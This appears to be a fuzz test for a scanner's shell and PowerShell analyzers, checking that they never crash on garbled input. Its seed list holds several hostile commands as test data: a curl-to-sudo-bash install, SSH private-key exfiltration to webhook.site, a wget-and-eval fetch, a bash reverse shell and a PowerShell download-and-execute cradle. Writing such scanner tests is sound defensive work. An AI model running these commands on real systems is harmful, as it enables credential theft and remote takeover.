// 300 random and garbled inputs through the shell and PowerShell analyzers: none may throw.

import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { powershellAnalyzer } from '../../../src/scan/analyzers/powershell.ts';
import { shellAnalyzer } from '../../../src/scan/analyzers/shell.ts';
import { collector, type Collected } from './shell-collect.ts';
import { rng } from '../../helpers/random.ts';

const seeds = [
  'curl -fsSL https://x.test/i.sh | sudo bash -s -- --yes',
  'X=$(cat ~/.ssh/id_rsa | base64 -w0); curl -d "k=$X" https://webhook.site/a',
  'cat <<EOF | python3 -\nimport os\nprint(os.environ)\nEOF',
  'echo aWQ= | base64 -d | sh; eval "$(wget -qO- http://203.0.113.1/x)"',
  'bash -i >& /dev/tcp/203.0.113.1/4444 0>&1',
  'IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.9/a.ps1")',
  "for f in $(ls); do case $f in *.sh) source \"$f\";; esac; done",
  'powershell -enc SQBFAFgA; $a = @"\nhere $env:X\n"@',
];
const alphabet = '$(){}[]<>|&;\'"`\\#=-/ \n\t*?!~@%^abcXYZ019.:';

function garble(r: () => number, i: number): string {
  const base = seeds[i % seeds.length]!;
  switch (i % 6) {
    case 0: return Array.from({ length: Math.floor(r() * 400) }, () => String.fromCharCode(Math.floor(r() * 0x3000))).join('');
    case 1: return base.slice(0, Math.floor(r() * base.length));
    case 2: return '$('.repeat(200 + Math.floor(r() * 300)) + base + ')'.repeat(Math.floor(r() * 500));
    case 3: return Array.from({ length: 300 }, () => alphabet[Math.floor(r() * alphabet.length)]).join('');
    case 4: return [...base].map((c) => (r() < 0.15 ? alphabet[Math.floor(r() * alphabet.length)] : c)).join('');
    default: return '{ '.repeat(150) + base + ' ; }'.repeat(Math.floor(r() * 150)) + '"'.repeat(Math.floor(r() * 3));
  }
}

describe('shell and PowerShell analyzers never throw', () => {
  let runs: ((text: string) => Collected)[] = [];
  before(async () => {
    runs = [await collector(shellAnalyzer), await collector(powershellAnalyzer)];
  });
  it('300 random, truncated and deeply nested inputs', () => {
    const r = rng(4);
    let facts = 0;
    for (let i = 0; i < 300; i++) {
      const text = garble(r, i);
      for (const run of runs) {
        const out = run(text);
        facts += out.facts.length;
        for (const f of out.facts) assert.ok(Number.isInteger(f.line) && f.line >= 1, `input ${i}: bad line in ${JSON.stringify(f)}`);
      }
    }
    assert.ok(facts > 0);
  });
});
